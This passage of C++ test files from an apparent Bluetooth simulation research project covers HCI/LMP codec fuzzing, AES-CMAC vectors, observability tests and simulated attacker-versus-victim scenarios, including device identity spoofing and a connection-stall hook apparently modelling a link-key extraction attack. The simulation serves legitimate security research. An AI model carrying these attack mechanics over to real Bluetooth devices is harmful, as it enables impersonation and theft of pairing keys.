TEST(CodecFuzz, LinkKeyRequestReplyCmd) {
  fuzz_command<LinkKeyRequestReplyCmd>(3, [](Rng& rng) {
    LinkKeyRequestReplyCmd cmd;
    cmd.bdaddr = random_addr(rng);
    cmd.link_key = rng.bytes<16>();
    return cmd;
  });
}

TEST(CodecFuzz, AuthenticationRequestedCmd) {
  fuzz_command<AuthenticationRequestedCmd>(4, [](Rng& rng) {
    AuthenticationRequestedCmd cmd;
    cmd.handle = static_cast<ConnectionHandle>(rng.uniform(0x0EFF));
    return cmd;
  });
}

TEST(CodecFuzz, SetConnectionEncryptionCmd) {
  fuzz_command<SetConnectionEncryptionCmd>(5, [](Rng& rng) {
    SetConnectionEncryptionCmd cmd;
    cmd.handle = static_cast<ConnectionHandle>(rng.uniform(0x0EFF));
    cmd.encryption_enable = static_cast<std::uint8_t>(rng.uniform(2));
    return cmd;
  });
}

// --- typed events ------------------------------------------------------------

template <typename Evt, typename MakeFn>
void fuzz_event(std::uint64_t seed, MakeFn make) {
  Rng rng(seed);
  for (int i = 0; i < kRounds; ++i) {
    const Evt evt = make(rng);
    const CheckResult r = check_event_round_trip(evt);
    ASSERT_TRUE(r.ok) << r.detail;
  }
}

TEST(CodecFuzz, ConnectionCompleteEvt) {
  fuzz_event<ConnectionCompleteEvt>(6, [](Rng& rng) {
    ConnectionCompleteEvt evt;
    evt.status = static_cast<Status>(rng.uniform(0x40));
    evt.handle = static_cast<ConnectionHandle>(rng.uniform(0x0EFF));
    evt.bdaddr = random_addr(rng);
    evt.link_type = static_cast<std::uint8_t>(rng.uniform(2));
    evt.encryption_enabled = static_cast<std::uint8_t>(rng.uniform(2));
    return evt;
  });
}

TEST(CodecFuzz, LinkKeyNotificationEvt) {
  fuzz_event<LinkKeyNotificationEvt>(7, [](Rng& rng) {
    LinkKeyNotificationEvt evt;
    evt.bdaddr = random_addr(rng);
    evt.link_key = rng.bytes<16>();
    evt.key_type = static_cast<crypto::LinkKeyType>(rng.uniform(8));
    return evt;
  });
}

// --- ACL fragments -----------------------------------------------------------

// The ACL header's u16 packs handle (bits 0-11), the Packet_Boundary flag
// (12-13) and the Broadcast flag (14-15). Continuation fragments (PB=1) and
// every other flag combination must round-trip through make_acl_fragment()
// and the accessors, and the declared data length must agree with the
// payload.
TEST(CodecFuzz, AclContinuationFragmentsRoundTrip) {
  Rng rng(11);
  for (int i = 0; i < kRounds; ++i) {
    const auto handle = static_cast<ConnectionHandle>(rng.uniform(0x1000));
    const auto pb = static_cast<std::uint8_t>(rng.uniform(4));
    const auto bc = static_cast<std::uint8_t>(rng.uniform(4));
    const Bytes data = rng.buffer(rng.uniform(48));

    const HciPacket pkt = make_acl_fragment(handle, pb, bc, data);
    ASSERT_EQ(pkt.type, PacketType::kAclData);
    ASSERT_TRUE(pkt.acl_handle().has_value());
    EXPECT_EQ(*pkt.acl_handle(), handle & 0x0FFF);
    ASSERT_TRUE(pkt.acl_pb_flag().has_value());
    EXPECT_EQ(*pkt.acl_pb_flag(), pb & 0x03);
    ASSERT_TRUE(pkt.acl_bc_flag().has_value());
    EXPECT_EQ(*pkt.acl_bc_flag(), bc & 0x03);
    ASSERT_TRUE(pkt.acl_data().has_value());
    EXPECT_EQ(to_bytes(*pkt.acl_data()), data);

    // H4 wire round trip preserves the flag bits exactly.
    const CheckResult r = check_h4_round_trip(pkt);
    ASSERT_TRUE(r.ok) << r.detail;
    // And the arbitrary-input probe's header/length consistency holds.
    const CheckResult probe = check_hci_wire(pkt.to_wire(), nullptr);
    ASSERT_TRUE(probe.ok) << probe.detail;
  }
}

TEST(CodecFuzz, AclHeaderTruncationRejects) {
  const HciPacket pkt = make_acl_fragment(0x0042, 1, 0, Bytes{1, 2, 3});
  const Bytes wire = pkt.to_wire();
  // Cutting anywhere inside the 4-byte ACL header (after the H4 type byte)
  // must make the accessors reject; cutting into the data must shrink
  // acl_data() consistently or reject, never read out of bounds.
  for (std::size_t cut = 1; cut < wire.size(); ++cut) {
    const auto parsed = HciPacket::from_wire(BytesView(wire).subspan(0, cut));
    if (!parsed.has_value()) continue;
    if (parsed->payload.size() < 4) {
      EXPECT_FALSE(parsed->acl_handle().has_value());
      EXPECT_FALSE(parsed->acl_pb_flag().has_value());
      EXPECT_FALSE(parsed->acl_bc_flag().has_value());
    }
  }
  // make_acl() is the PB=0/BC=0 special case of make_acl_fragment().
  EXPECT_EQ(make_acl(0x0042, Bytes{9, 9}).to_wire(),
            make_acl_fragment(0x0042, 0, 0, Bytes{9, 9}).to_wire());
}

// --- LMP ---------------------------------------------------------------------

TEST(CodecFuzz, LmpPduRoundTrip) {
  Rng rng(8);
  for (int i = 0; i < kRounds; ++i) {
    controller::LmpPdu pdu;
    pdu.opcode = static_cast<controller::LmpOpcode>(
        1 + rng.uniform(static_cast<std::uint64_t>(controller::LmpOpcode::kSresSc)));
    pdu.payload = rng.buffer(rng.uniform(64));
    const CheckResult r = check_lmp_round_trip(pdu);
    ASSERT_TRUE(r.ok) << r.detail;
  }
}

TEST(CodecFuzz, LmpRejectsBadFrames) {
  // Empty, wrong channel, opcode 0, opcode out of range.
  EXPECT_FALSE(controller::LmpPdu::from_air_frame({}).has_value());
  Rng rng(9);
  for (int i = 0; i < kRounds; ++i) {
    Bytes frame = rng.buffer(2 + rng.uniform(32));
    frame[0] = static_cast<std::uint8_t>(2 + rng.uniform(250));  // not kLmp/kAcl channel
    EXPECT_FALSE(controller::LmpPdu::from_air_frame(frame).has_value());
    frame[0] = 0;  // LMP channel
    frame[1] = 0;  // opcode 0 is invalid
    EXPECT_FALSE(controller::LmpPdu::from_air_frame(frame).has_value());
    frame[1] = static_cast<std::uint8_t>(
        static_cast<std::uint8_t>(controller::LmpOpcode::kSresSc) + 1 + rng.uniform(100));
    EXPECT_FALSE(controller::LmpPdu::from_air_frame(frame).has_value());
  }
  // A channel byte alone (no opcode) is truncated.
  const Bytes only_channel = {0};
  EXPECT_FALSE(controller::LmpPdu::from_air_frame(only_channel).has_value());
}

TEST(CodecFuzz, LmpTypedPayloadsRejectTruncation) {
  Rng rng(10);
  for (int i = 0; i < kRounds; ++i) {
    controller::LmpIoCap iocap;
    iocap.io_capability = static_cast<std::uint8_t>(rng.uniform(4));
    iocap.oob_data_present = static_cast<std::uint8_t>(rng.uniform(2));
    iocap.authentication_requirements = static_cast<std::uint8_t>(rng.uniform(6));
    const Bytes enc = iocap.encode();
    const auto dec = controller::LmpIoCap::decode(enc);
    ASSERT_TRUE(dec.has_value());
    EXPECT_EQ(dec->encode(), enc);
    for (std::size_t cut = 0; cut < enc.size(); ++cut)
      EXPECT_FALSE(controller::LmpIoCap::decode(BytesView(enc).subspan(0, cut)).has_value());

    controller::LmpNotAccepted na;
    na.rejected_opcode = static_cast<controller::LmpOpcode>(
        1 + rng.uniform(static_cast<std::uint64_t>(controller::LmpOpcode::kSresSc)));
    na.reason = static_cast<std::uint8_t>(rng.next_u64());
    const Bytes na_enc = na.encode();
    const auto na_dec = controller::LmpNotAccepted::decode(na_enc);
    ASSERT_TRUE(na_dec.has_value());
    EXPECT_EQ(na_dec->encode(), na_enc);
    for (std::size_t cut = 0; cut < na_enc.size(); ++cut)
      EXPECT_FALSE(
          controller::LmpNotAccepted::decode(BytesView(na_enc).subspan(0, cut)).has_value());
  }
}

// LmpPublicKey is the variable-length case: [width u8][x width bytes]
// [y width bytes] for widths 24 (P-192) and 32 (P-256). Every strict prefix
// — including cuts inside the coordinates, where a fixed-size checker would
// never look — must reject, and the declared width must bound the read.
TEST(CodecFuzz, LmpVariableLengthPublicKeyRejectsTruncation) {
  Rng rng(12);
  for (const std::size_t width : {std::size_t{24}, std::size_t{32}}) {
    for (int i = 0; i < kRounds / 4; ++i) {
      controller::LmpPublicKey key;
      key.x = rng.buffer(width);
      key.y = rng.buffer(width);
      const Bytes enc = key.encode();

      const auto dec = controller::LmpPublicKey::decode(enc);
      ASSERT_TRUE(dec.has_value());
      EXPECT_EQ(dec->x, key.x);
      EXPECT_EQ(dec->y, key.y);
      EXPECT_EQ(dec->encode(), enc);

      for (std::size_t cut = 0; cut < enc.size(); ++cut)
        EXPECT_FALSE(
            controller::LmpPublicKey::decode(BytesView(enc).subspan(0, cut)).has_value())
            << "width " << width << ", prefix of " << cut << " bytes decoded";

      // A width byte that promises more coordinate bytes than the frame
      // carries must not over-read: a P-192 frame relabelled P-256 rejects.
      if (width == 24) {
        Bytes lying = enc;
        lying[0] = 32;
        EXPECT_FALSE(controller::LmpPublicKey::decode(lying).has_value());
      }
    }
  }
  // Widths other than the two supported curves reject outright, however
  // many bytes follow.
  for (const int bad_width : {0, 1, 16, 25, 33, 255}) {
    Bytes frame{static_cast<std::uint8_t>(bad_width)};
    frame.resize(1 + 2 * static_cast<std::size_t>(bad_width), 0xAB);
    EXPECT_FALSE(controller::LmpPublicKey::decode(frame).has_value())
        << "width " << bad_width << " accepted";
  }
}

}  // namespace
}  // namespace blap::hci
