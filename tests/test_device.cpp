// Unit tests for device assembly and simulation determinism.
#include <gtest/gtest.h>

#include "core/device.hpp"

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr,
                TransportKind transport = TransportKind::kUart) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  s.transport = transport;
  return s;
}

TEST(Device, UartDeviceHasNoUsbTransport) {
  Simulation sim(1);
  Device& d = sim.add_device(spec("phone", "00:00:00:00:00:01", TransportKind::kUart));
  EXPECT_EQ(d.usb_transport(), nullptr);
}

TEST(Device, UsbDeviceExposesUsbTransport) {
  Simulation sim(1);
  Device& d = sim.add_device(spec("pc", "00:00:00:00:00:01", TransportKind::kUsb));
  EXPECT_NE(d.usb_transport(), nullptr);
}

TEST(Device, PowerOnInitializesHostAddress) {
  Simulation sim(2);
  Device& d = sim.add_device(spec("phone", "12:34:56:78:9a:bc"));
  EXPECT_EQ(d.host().address().to_string(), "12:34:56:78:9a:bc");
}

TEST(Device, SpoofIdentityChangesRadioPresence) {
  Simulation sim(3);
  Device& spoofer = sim.add_device(spec("spoofer", "00:00:00:00:00:01"));
  Device& observer = sim.add_device(spec("observer", "00:00:00:00:00:02"));
  spoofer.spoof_identity(*BdAddr::parse("de:ad:be:ef:00:01"),
                         ClassOfDevice(ClassOfDevice::kHandsFree));

  std::vector<host::HostStack::Discovered> found;
  observer.host().discover(2, [&](std::vector<host::HostStack::Discovered> r) { found = r; });
  sim.run_for(5 * kSecond);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].address.to_string(), "de:ad:be:ef:00:01");
  EXPECT_EQ(found[0].class_of_device.raw(), ClassOfDevice::kHandsFree);
}

TEST(Device, RadioDisableRemovesFromInquiry) {
  Simulation sim(4);
  Device& hidden = sim.add_device(spec("hidden", "00:00:00:00:00:01"));
  Device& observer = sim.add_device(spec("observer", "00:00:00:00:00:02"));
  hidden.set_radio_enabled(false);
  EXPECT_FALSE(hidden.radio_enabled());

  std::vector<host::HostStack::Discovered> found;
  observer.host().discover(2, [&](std::vector<host::HostStack::Discovered> r) { found = r; });
  sim.run_for(5 * kSecond);
  EXPECT_TRUE(found.empty());

  hidden.set_radio_enabled(true);
  observer.host().discover(2, [&](std::vector<host::HostStack::Discovered> r) { found = r; });
  sim.run_for(5 * kSecond);
  EXPECT_EQ(found.size(), 1u);
}

TEST(Device, RadioToggleIsIdempotent) {
  Simulation sim(5);
  Device& d = sim.add_device(spec("phone", "00:00:00:00:00:01"));
  d.set_radio_enabled(true);   // already enabled
  d.set_radio_enabled(false);
  d.set_radio_enabled(false);  // already disabled
  EXPECT_FALSE(d.radio_enabled());
}

TEST(Simulation, SameSeedReproducesIdenticalLinkKeys) {
  // The determinism contract everything in EXPERIMENTS.md relies on.
  auto run_once = [] {
    Simulation sim(1234);
    Device& a = sim.add_device(spec("a", "00:00:00:00:00:01"));
    Device& b = sim.add_device(spec("b", "00:00:00:00:00:02"));
    a.host().pair(b.address(), [](hci::Status) {});
    sim.run_for(15 * kSecond);
    auto key = a.host().security().link_key_for(b.address());
    EXPECT_TRUE(key.has_value());
    return key ? *key : crypto::LinkKey{};
  };
  EXPECT_EQ(run_once(), run_once());
}

TEST(Simulation, DifferentSeedsProduceDifferentKeys) {
  auto run_once = [](std::uint64_t seed) {
    Simulation sim(seed);
    Device& a = sim.add_device(spec("a", "00:00:00:00:00:01"));
    Device& b = sim.add_device(spec("b", "00:00:00:00:00:02"));
    a.host().pair(b.address(), [](hci::Status) {});
    sim.run_for(15 * kSecond);
    auto key = a.host().security().link_key_for(b.address());
    return key ? *key : crypto::LinkKey{};
  };
  EXPECT_NE(run_once(1), run_once(2));
}

TEST(Simulation, ManyDevicesCoexist) {
  Simulation sim(6);
  std::vector<Device*> devices;
  for (int i = 0; i < 6; ++i) {
    char addr[18];
    std::snprintf(addr, sizeof(addr), "00:00:00:00:01:%02x", i);
    devices.push_back(&sim.add_device(spec("dev" + std::to_string(i), addr)));
  }
  std::vector<host::HostStack::Discovered> found;
  devices[0]->host().discover(3, [&](std::vector<host::HostStack::Discovered> r) { found = r; });
  sim.run_for(6 * kSecond);
  EXPECT_EQ(found.size(), 5u);
}

}  // namespace
}  // namespace blap::core
