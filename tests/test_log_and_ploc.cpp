// Tests for the logging facility and the host's PLOC event-queue mechanics
// (the Fig. 13 hook) observed directly at the HCI boundary.
#include <gtest/gtest.h>

#include "common/log.hpp"
#include "core/device.hpp"

namespace blap {
namespace {

TEST(Logger, SinkCapturesMessagesAtOrAboveLevel) {
  auto& logger = Logger::instance();
  const LogLevel old_level = logger.level();
  std::vector<std::pair<std::string, std::string>> captured;
  logger.set_sink([&](LogLevel, const std::string& component, const std::string& message) {
    captured.emplace_back(component, message);
  });
  logger.set_level(LogLevel::Info);

  BLAP_DEBUG("test", "hidden %d", 1);
  BLAP_INFO("test", "visible %d", 2);
  BLAP_ERROR("other", "also visible");

  ASSERT_EQ(captured.size(), 2u);
  EXPECT_EQ(captured[0].first, "test");
  EXPECT_EQ(captured[0].second, "visible 2");
  EXPECT_EQ(captured[1].first, "other");

  logger.set_sink(nullptr);
  logger.set_level(old_level);
}

TEST(Logger, LevelNames) {
  EXPECT_STREQ(to_string(LogLevel::Trace), "TRACE");
  EXPECT_STREQ(to_string(LogLevel::Error), "ERROR");
}

TEST(Strfmt, FormatsLikePrintf) {
  EXPECT_EQ(strfmt("%s=%d", "x", 42), "x=42");
  EXPECT_EQ(strfmt("%04x", 0xab), "00ab");
  EXPECT_EQ(strfmt("plain"), "plain");
}

}  // namespace
}  // namespace blap

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  return s;
}

TEST(Ploc, QueuedEventsProcessInOrderAfterFlush) {
  Simulation sim(150);
  Device& attacker = sim.add_device(spec("attacker", "00:00:00:00:00:01"));
  Device& victim = sim.add_device(spec("victim", "00:00:00:00:00:02"));
  attacker.host().hooks().ploc_delay = 3 * kSecond;

  bool connected = false;
  attacker.host().connect_only(victim.address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  // Shortly after the baseband link is up, A's host must NOT have processed
  // the Connection_Complete (it is stalled in the PLOC queue)...
  sim.run_for(2 * kSecond);
  EXPECT_FALSE(connected);
  EXPECT_FALSE(attacker.host().has_acl(victim.address()));
  // ...while the victim's side sees the link as fully up.
  EXPECT_TRUE(victim.host().has_acl(attacker.address()));

  // After the PLOC window, the queued events drain in order and the host
  // state catches up.
  sim.run_for(3 * kSecond);
  EXPECT_TRUE(connected);
  EXPECT_TRUE(attacker.host().has_acl(victim.address()));
}

TEST(Ploc, TrafficDuringPlocIsNotLost) {
  Simulation sim(151);
  Device& attacker = sim.add_device(spec("attacker", "00:00:00:00:00:01"));
  Device& victim = sim.add_device(spec("victim", "00:00:00:00:00:02"));
  attacker.host().hooks().ploc_delay = 3 * kSecond;

  attacker.host().connect_only(victim.address(), nullptr);
  // Wait for the victim side of the link (page latency is randomized).
  for (int i = 0; i < 50 && !victim.host().has_acl(attacker.address()); ++i)
    sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(victim.host().has_acl(attacker.address()));

  // The victim's host can use the link immediately: its echo request lands
  // in A's PLOC queue and is answered after the flush.
  bool echoed = false;
  victim.host().send_echo(attacker.address(), [&] { echoed = true; });
  sim.run_for(500 * kMillisecond);
  EXPECT_FALSE(echoed);  // still queued on A's side
  sim.run_for(5 * kSecond);
  EXPECT_TRUE(echoed);  // answered post-flush, nothing lost
}

TEST(Ploc, ZeroDelayMeansNoQueueing) {
  Simulation sim(152);
  Device& a = sim.add_device(spec("a", "00:00:00:00:00:01"));
  Device& b = sim.add_device(spec("b", "00:00:00:00:00:02"));
  ASSERT_EQ(a.host().hooks().ploc_delay, 0u);
  bool connected = false;
  a.host().connect_only(b.address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  sim.run_for(3 * kSecond);
  EXPECT_TRUE(connected);
}

TEST(Ploc, RearmsForSubsequentConnections) {
  // Fig. 13's hook stalls on EVERY Connection_Complete while enabled.
  Simulation sim(153);
  Device& attacker = sim.add_device(spec("attacker", "00:00:00:00:00:01"));
  Device& victim = sim.add_device(spec("victim", "00:00:00:00:00:02"));
  attacker.host().hooks().ploc_delay = 2 * kSecond;

  bool first = false;
  attacker.host().connect_only(victim.address(), [&](hci::Status s) {
    first = s == hci::Status::kSuccess;
  });
  sim.run_for(5 * kSecond);
  ASSERT_TRUE(first);
  attacker.host().disconnect(victim.address());
  sim.run_for(kSecond);

  bool second = false;
  attacker.host().connect_only(victim.address(), [&](hci::Status s) {
    second = s == hci::Status::kSuccess;
  });
  sim.run_for(1500 * kMillisecond);
  EXPECT_FALSE(second);  // stalled again
  sim.run_for(3 * kSecond);
  EXPECT_TRUE(second);
}

}  // namespace
}  // namespace blap::core
