// AES-CMAC validation against RFC 4493 example vectors.
#include <gtest/gtest.h>

#include "common/bytes.hpp"
#include "crypto/cmac.hpp"

namespace blap::crypto {
namespace {

Aes128::Key key() {
  auto bytes = *unhex("2b7e151628aed2a6abf7158809cf4f3c");
  Aes128::Key k{};
  std::copy(bytes.begin(), bytes.end(), k.begin());
  return k;
}

TEST(AesCmac, Rfc4493EmptyMessage) {
  EXPECT_EQ(hex(aes_cmac(key(), Bytes{})), "bb1d6929e95937287fa37d129b756746");
}

TEST(AesCmac, Rfc4493SixteenBytes) {
  const auto msg = *unhex("6bc1bee22e409f96e93d7e117393172a");
  EXPECT_EQ(hex(aes_cmac(key(), msg)), "070a16b46b4d4144f79bdd9dd04a287c");
}

TEST(AesCmac, Rfc4493FortyBytes) {
  const auto msg = *unhex(
      "6bc1bee22e409f96e93d7e117393172a"
      "ae2d8a571e03ac9c9eb76fac45af8e51"
      "30c81c46a35ce411");
  EXPECT_EQ(hex(aes_cmac(key(), msg)), "dfa66747de9ae63030ca32611497c827");
}

TEST(AesCmac, Rfc4493SixtyFourBytes) {
  const auto msg = *unhex(
      "6bc1bee22e409f96e93d7e117393172a"
      "ae2d8a571e03ac9c9eb76fac45af8e51"
      "30c81c46a35ce411e5fbc1191a0a52ef"
      "f69f2445df4f9b17ad2b417be66c3710");
  EXPECT_EQ(hex(aes_cmac(key(), msg)), "51f0bebf7e3b9d92fc49741779363cfe");
}

TEST(AesCmac, PaddedVsCompleteBlockDiffer) {
  const Bytes fifteen(15, 0x42);
  const Bytes sixteen(16, 0x42);
  EXPECT_NE(aes_cmac(key(), fifteen), aes_cmac(key(), sixteen));
}

TEST(AesCmac, KeySensitivity) {
  Aes128::Key other = key();
  other[15] ^= 1;
  const Bytes msg(32, 0x11);
  EXPECT_NE(aes_cmac(key(), msg), aes_cmac(other, msg));
}

// Length sweep: every length from 0..33 produces a distinct, deterministic tag.
class CmacLengths : public ::testing::TestWithParam<std::size_t> {};

TEST_P(CmacLengths, DeterministicPerLength) {
  Bytes msg(GetParam());
  for (std::size_t i = 0; i < msg.size(); ++i) msg[i] = static_cast<std::uint8_t>(i * 3);
  EXPECT_EQ(aes_cmac(key(), msg), aes_cmac(key(), msg));
  if (GetParam() > 0) {
    Bytes flipped = msg;
    flipped[GetParam() / 2] ^= 0x80;
    EXPECT_NE(aes_cmac(key(), msg), aes_cmac(key(), flipped));
  }
}

INSTANTIATE_TEST_SUITE_P(AllShortLengths, CmacLengths,
                         ::testing::Values(0, 1, 7, 15, 16, 17, 31, 32, 33, 128));

}  // namespace
}  // namespace blap::crypto
