// Tests for the observability layer: trace recorder ring/span semantics,
// deterministic Chrome-JSON and text emits, log2 histogram math, snapshot
// merging (the property campaign aggregation relies on), and the run-time-off
// contract (a disabled Observer must be a no-op at every entry point).
#include <gtest/gtest.h>

#include <string>
#include <thread>
#include <vector>

#include "common/log.hpp"
#include "obs/obs.hpp"

namespace blap::obs {
namespace {

TEST(TraceRecorder, InternIsStableAndOrdered) {
  TraceRecorder rec(16);
  const auto a = rec.intern_device("attacker-A");
  const auto m = rec.intern_device("victim-M");
  EXPECT_NE(a, m);
  EXPECT_EQ(rec.intern_device("attacker-A"), a);
  EXPECT_EQ(rec.intern_device("victim-M"), m);
  ASSERT_EQ(rec.devices().size(), 2u);
  EXPECT_EQ(rec.devices()[a], "attacker-A");
  EXPECT_EQ(rec.devices()[m], "victim-M");
}

TEST(TraceRecorder, RingDropsOldestAndCounts) {
  TraceRecorder rec(4);
  const auto d = rec.intern_device("dev");
  for (int i = 0; i < 10; ++i) rec.instant(static_cast<SimTime>(i), d, Layer::kHci, "e");
  EXPECT_EQ(rec.size(), 4u);
  EXPECT_EQ(rec.dropped(), 6u);
  // The survivors are the most recent window.
  EXPECT_EQ(rec.events().front().ts, 6);
  EXPECT_EQ(rec.events().back().ts, 9);
  // The drop count reaches the export, so a truncated trace says so.
  EXPECT_NE(rec.to_chrome_json().find("\"dropped_events\""), std::string::npos);
}

TEST(TraceRecorder, SpanIdsPairBeginAndEnd) {
  TraceRecorder rec(16);
  const auto d = rec.intern_device("dev");
  const auto id = rec.begin_span(100, d, Layer::kLmp, "pairing", "ssp");
  EXPECT_NE(id, 0u);
  rec.end_span(500, id, "link key derived");
  ASSERT_EQ(rec.size(), 2u);
  EXPECT_EQ(rec.events()[0].phase, 'b');
  EXPECT_EQ(rec.events()[1].phase, 'e');
  EXPECT_EQ(rec.events()[0].span_id, rec.events()[1].span_id);
  // A paired span exports as one complete ("X") slice with its duration.
  const std::string json = rec.to_chrome_json();
  EXPECT_NE(json.find("\"ph\": \"X\""), std::string::npos);
  EXPECT_NE(json.find("\"dur\": 400"), std::string::npos);
}

TEST(TraceRecorder, UnknownAndRepeatedEndsAreIgnored) {
  TraceRecorder rec(16);
  const auto d = rec.intern_device("dev");
  rec.end_span(10, 999, "never opened");
  const auto id = rec.begin_span(0, d, Layer::kHci, "s");
  rec.end_span(5, id);
  rec.end_span(6, id);  // already closed
  EXPECT_EQ(rec.size(), 2u);
}

TEST(TraceRecorder, FutureEndTimestampSortsInExport) {
  // The paging race records candidate spans whose end lies in the virtual
  // future of later begin events; exports must still be time-ordered.
  TraceRecorder rec(16);
  const auto d = rec.intern_device("victim");
  const auto race = rec.begin_span(100, d, Layer::kRadio, "page_scan_race");
  rec.end_span(5000, race, "WINS");
  rec.instant(200, d, Layer::kRadio, "page_start");
  const std::string text = rec.to_text();
  // Text timeline is time-sorted: the instant at 200 precedes the end at 5000.
  const auto at200 = text.find("page_start");
  const auto at5000 = text.find("WINS");
  ASSERT_NE(at200, std::string::npos);
  ASSERT_NE(at5000, std::string::npos);
  EXPECT_LT(at200, at5000);
}

TEST(TraceRecorder, EmitsAreByteIdenticalAcrossRuns) {
  auto build = [] {
    TraceRecorder rec(32);
    const auto a = rec.intern_device("attacker");
    const auto m = rec.intern_device("victim");
    rec.instant(10, a, Layer::kAttack, "spoof_identity", "aa -> bb");
    const auto s = rec.begin_span(20, m, Layer::kLmp, "pairing", "ssp responder");
    rec.instant(30, a, Layer::kHci, "lmp_tx:au_rand");
    rec.end_span(900, s, "link key derived");
    return rec;
  };
  const auto r1 = build();
  const auto r2 = build();
  EXPECT_EQ(r1.to_chrome_json(), r2.to_chrome_json());
  EXPECT_EQ(r1.to_text(), r2.to_text());
  // Both lanes appear as metadata rows.
  const std::string json = r1.to_chrome_json();
  EXPECT_NE(json.find("thread_name"), std::string::npos);
  EXPECT_NE(json.find("attacker"), std::string::npos);
  EXPECT_NE(json.find("victim"), std::string::npos);
}

TEST(JsonEscape, HandlesQuotesBackslashesAndControls) {
  EXPECT_EQ(json_escape("plain"), "plain");
  EXPECT_EQ(json_escape("a\"b"), "a\\\"b");
  EXPECT_EQ(json_escape("a\\b"), "a\\\\b");
  EXPECT_EQ(json_escape("a\nb"), "a\\nb");
  EXPECT_EQ(json_escape(std::string("a\x01") + "b"), "a\\u0001b");
}

TEST(HistDataTest, BucketsAreLog2) {
  HistData h;
  h.observe(0);  // bit_width(0) == 0 -> bucket 0
  h.observe(1);  // [1, 2)        -> bucket 1
  h.observe(7);  // [4, 8)        -> bucket 3
  h.observe(8);  // [8, 16)       -> bucket 4
  EXPECT_EQ(h.count, 4u);
  EXPECT_EQ(h.sum, 16u);
  EXPECT_EQ(h.min, 0u);
  EXPECT_EQ(h.max, 8u);
  EXPECT_EQ(h.buckets[0], 1u);
  EXPECT_EQ(h.buckets[1], 1u);
  EXPECT_EQ(h.buckets[3], 1u);
  EXPECT_EQ(h.buckets[4], 1u);
}

TEST(HistDataTest, MergeEqualsCombinedObserves) {
  HistData a;
  HistData b;
  HistData whole;
  for (std::uint64_t v : {3u, 900u, 17u}) {
    a.observe(v);
    whole.observe(v);
  }
  for (std::uint64_t v : {1u, 250000u}) {
    b.observe(v);
    whole.observe(v);
  }
  a.merge(b);
  EXPECT_EQ(a.count, whole.count);
  EXPECT_EQ(a.sum, whole.sum);
  EXPECT_EQ(a.min, whole.min);
  EXPECT_EQ(a.max, whole.max);
  EXPECT_EQ(a.buckets, whole.buckets);
}

TEST(MetricsSnapshotTest, MergeIsOrderIndependent) {
  // The campaign aggregates per-trial snapshots in index order, but the
  // result must not depend on grouping — that is what makes the metrics
  // block identical for any BLAP_JOBS value.
  MetricsRegistry r1;
  r1.add("lmp.rx", 3);
  r1.gauge_max("scheduler.max_queue_depth", 9);
  r1.observe("radio.page_latency_us", 1200);
  MetricsRegistry r2;
  r2.add("lmp.rx", 5);
  r2.add("radio.pages");
  r2.gauge_max("scheduler.max_queue_depth", 4);
  r2.observe("radio.page_latency_us", 90000);

  MetricsSnapshot ab = r1.snapshot();
  ab.merge_from(r2.snapshot());
  MetricsSnapshot ba = r2.snapshot();
  ba.merge_from(r1.snapshot());
  EXPECT_EQ(ab.to_json(), ba.to_json());
  EXPECT_EQ(ab.counters.at("lmp.rx"), 8u);
  EXPECT_EQ(ab.gauges.at("scheduler.max_queue_depth"), 9u);
  EXPECT_EQ(ab.histograms.at("radio.page_latency_us").count, 2u);
}

TEST(MetricsSnapshotTest, JsonKeysAreSortedAndIndented) {
  MetricsRegistry reg;
  reg.add("zz.last");
  reg.add("aa.first");
  reg.add("mm.middle");
  const std::string json = reg.snapshot().to_json("  ");
  const auto a = json.find("aa.first");
  const auto m = json.find("mm.middle");
  const auto z = json.find("zz.last");
  ASSERT_NE(a, std::string::npos);
  ASSERT_NE(m, std::string::npos);
  ASSERT_NE(z, std::string::npos);
  EXPECT_LT(a, m);
  EXPECT_LT(m, z);
  // Indent applies to every line but the opening brace.
  EXPECT_EQ(json.front(), '{');
  EXPECT_NE(json.find("\n  "), std::string::npos);
}

TEST(MetricsSnapshotTest, JsonIsByteStableUnderInsertionOrderAndRehash) {
  // Regression for the determinism contract (lint rule D2): serialized
  // metrics must not depend on container internals. Fill two registries with
  // the same final contents via wildly different insertion orders and enough
  // churn to force any hash-based container through several rehashes; the
  // JSON must come out byte-identical.
  MetricsRegistry forward;
  MetricsRegistry scrambled;
  std::vector<std::string> names;
  names.reserve(300);
  for (int i = 0; i < 300; ++i) names.push_back("metric." + std::to_string(i));

  for (const auto& name : names) {
    forward.add(name, 1);
    forward.observe(name + ".hist", static_cast<std::uint64_t>(name.size()));
  }
  // Reverse order, with interleaved churn keys that grow the table past
  // several load-factor boundaries before the real keys land.
  for (int i = 299; i >= 0; --i) {
    scrambled.add("churn." + std::to_string(i), 1);
    scrambled.add(names[static_cast<std::size_t>(i)], 1);
    scrambled.observe(names[static_cast<std::size_t>(i)] + ".hist",
                      static_cast<std::uint64_t>(names[static_cast<std::size_t>(i)].size()));
  }
  MetricsSnapshot lhs = forward.snapshot();
  MetricsSnapshot rhs = scrambled.snapshot();
  for (int i = 0; i < 300; ++i) rhs.counters.erase("churn." + std::to_string(i));
  EXPECT_EQ(lhs.to_json("  "), rhs.to_json("  "));
}

TEST(ObserverTest, DisabledObserverIsInertEverywhere) {
  Observer obs;  // default config: everything off
  EXPECT_FALSE(obs.tracing());
  EXPECT_FALSE(obs.metrics_on());
  obs.count("lmp.rx");
  obs.gauge_max("depth", 10);
  obs.observe("lat", 5);
  obs.instant(1, 0, Layer::kHci, "e");
  EXPECT_EQ(obs.begin_span(1, 0, Layer::kHci, "s"), 0u);
  obs.end_span(2, 0);
  obs.span(1, 2, 0, Layer::kHci, "s2");
  EXPECT_EQ(obs.recorder().size(), 0u);
  // Only the scheduler tallies survive into the snapshot...
  EXPECT_TRUE(obs.snapshot().counters.empty());
  // ...and device_tid still works so wiring can cache ids unconditionally.
  EXPECT_EQ(obs.device_tid("a"), obs.device_tid("a"));
}

TEST(ObserverTest, SnapshotFoldsSchedulerHookTallies) {
  ObsConfig cfg;
  cfg.metrics = true;
  Observer obs(cfg);
  Scheduler sched;
  sched.set_hook(&obs);
  int fired = 0;
